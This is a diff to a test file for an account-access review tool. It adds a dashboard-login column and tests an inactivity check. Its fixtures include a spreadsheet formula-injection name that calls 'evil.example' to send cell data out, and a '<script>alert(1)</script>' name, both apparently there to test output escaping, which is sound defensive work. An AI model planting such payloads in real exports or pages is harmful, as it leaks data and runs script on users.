@@ -33,15 +33,15 @@ describe('review', () => {
     const { code, stdout, stderr } = await cli(['review', BEFORE, '--format', 'csv']);
     expect({ code, stderr }).toEqual({ code: 0, stderr: '' });
     expect(stdout.split('\r\n')).toEqual([
-      'Account,Account ID,Member ID,Email,Name,Status,2FA,Roles,Resource-scoped grants,Last login,Tokens created',
-      'Fixture Co,acc1,m1,alice@fixture.example,Alice Admin,accepted,on,Super Administrator - All Privileges,,2025-05-22T00:00:00Z,' +
+      'Account,Account ID,Member ID,Email,Name,Status,2FA,Roles,Resource-scoped grants,Last dashboard login,Last login,Tokens created',
+      'Fixture Co,acc1,m1,alice@fixture.example,Alice Admin,accepted,on,Super Administrator - All Privileges,,2025-05-30T09:15:00Z,2025-05-22T00:00:00Z,' +
         '"Forgotten export (active, never used); Terraform (active, last used 2025-05-30)"',
       'Fixture Co,acc1,m2,bob@fixture.example,Bob Zone,accepted,unknown,,' +
         'Fixture Co (account): Zone Read; fixture.example (zone): Domain DNS (denied DNS Records Write); other.example (zone): denied Domain DNS,' +
-        'never,"Old bot (disabled, last used 2024-09-24)"',
-      'Fixture Co,acc1,m3,carol@fixture.example,"\'=HYPERLINK(""https://evil.example/?""&A1,""Carol"")",pending,off,Administrator,,not a Zero Trust user,',
+        'none in 90 days,never,"Old bot (disabled, last used 2024-09-24)"',
+      'Fixture Co,acc1,m3,carol@fixture.example,"\'=HYPERLINK(""https://evil.example/?""&A1,""Carol"")",pending,off,Administrator,,none in 90 days,not a Zero Trust user,',
       'Fixture Co,acc1,m4,dave@fixture.example,Dave <script>alert(1)</script> Styles,accepted,off,' +
-        '"SSL/TLS, Caching, Performance, Page Rules, and Customization",Fixture Co (account): Analytics,not a Zero Trust user,',
+        '"SSL/TLS, Caching, Performance, Page Rules, and Customization",Fixture Co (account): Analytics,2025-03-20T12:00:00Z,not a Zero Trust user,',
       '',
     ]);
   });
@@ -59,11 +59,11 @@ describe('review', () => {
       '',
       '## Fixture Co (acc1)',
       '',
-      '| Member ID | Email | Name | Status | 2FA | Roles | Resource-scoped grants | Last login | Tokens created |',
-      '| --- | --- | --- | --- | --- | --- | --- | --- | --- |',
+      '| Member ID | Email | Name | Status | 2FA | Roles | Resource-scoped grants | Last dashboard login | Last login | Tokens created |',
+      '| --- | --- | --- | --- | --- | --- | --- | --- | --- | --- |',
     ]);
     expect(md).toContain(
-      '| m1 | alice@fixture.example | Alice \\| Admin | accepted | on | Super Administrator - All Privileges |   | 2025-05-22T00:00:00Z | Forgotten export (active, never used); Terraform (active, last used 2025-05-30) |',
+      '| m1 | alice@fixture.example | Alice \\| Admin | accepted | on | Super Administrator - All Privileges |   | 2025-05-30T09:15:00Z | 2025-05-22T00:00:00Z | Forgotten export (active, never used); Terraform (active, last used 2025-05-30) |',
     );
   });
 
@@ -199,6 +199,87 @@ describe('check', () => {
       title: 'No active API token unused for more than 90 days',
       status: 'skip',
       summary: 'the graph holds no API tokens (the api-tokens area was not collected)',
+      offenders: [],
+    });
+  });
+
+  test('maxInactiveDays: accepted members without a dashboard login in that many days fail; invitations are not judged', () => {
+    const checks = runChecks(
+      buildAccessModel(loadGraph(BEFORE)),
+      parseRoster('email\n', 'r.csv'),
+      parsePolicy('{"maxInactiveDays": 30}', 'p.json'),
+      T0,
+    );
+    expect(checks.map((c) => c.id)).toEqual([
+      'identified',
+      'leavers',
+      'roles',
+      '2fa',
+      'super-admins',
+      'token-idle',
+      'inactive',
+    ]);
+    expect(checks[6]).toEqual({
+      id: 'inactive',
+      title: 'Every accepted member logged in to the dashboard in the last 30 days',
+      status: 'fail',
+      summary: '3 accepted members',
+      offenders: [
+        {
+          accountId: 'acc1',
+          accountName: 'Fixture Co',
+          email: 'bob@fixture.example',
+          memberId: 'm2',
+          detail: 'no dashboard login in the 90 days read',
+        },
+        {
+          accountId: 'acc1',
+          accountName: 'Fixture Co',
+          email: 'dave@fixture.example',
+          memberId: 'm4',
+          detail: 'last dashboard login 2025-03-20 (72 days ago)',
+        },
+      ],
+    });
+  });
+
+  test('maxInactiveDays without login activity in the graph: skipped, saying so, nobody failed', () => {
+    const graph = loadGraph(BEFORE);
+    const noActivity = indexGraph(
+      'g',
+      graph.entities.map(
+        ({ lastLoginOn: _l, activityWindowDays: _w, ...entity }) =>
+          entity as typeof entity & { _key: string; _type: string; _class: string[] },
+      ),
+      graph.relationships,
+      { partialTypes: [], stepStatus: new Map() },
+    );
+    const checks = runChecks(
+      buildAccessModel(noActivity),
+      parseRoster('email\n', 'r.csv'),
+      parsePolicy('{"maxInactiveDays": 30}', 'p.json'),
+      T0,
+    );
+    expect(checks[6]).toEqual({
+      id: 'inactive',
+      title: 'Every accepted member logged in to the dashboard in the last 30 days',
+      status: 'skip',
+      summary:
+        'the graph holds no login activity for these members (the activity area was off, or the token could not read the audit log)',
+      offenders: [],
+    });
+  });
+
+  test('maxInactiveDays longer than the window read: members without a login are not judged', () => {
+    const checks = runChecks(
+      buildAccessModel(loadGraph(BEFORE)),
+      parseRoster('email\n', 'r.csv'),
+      parsePolicy('{"maxInactiveDays": 120}', 'p.json'),
+      T0,
+    );
+    expect(checks[6]).toMatchObject({
+      status: 'pass',
+      summary: '2 accepted members; 1 member not judged: the audit log was read over fewer days',
       offenders: [],
     });
   });
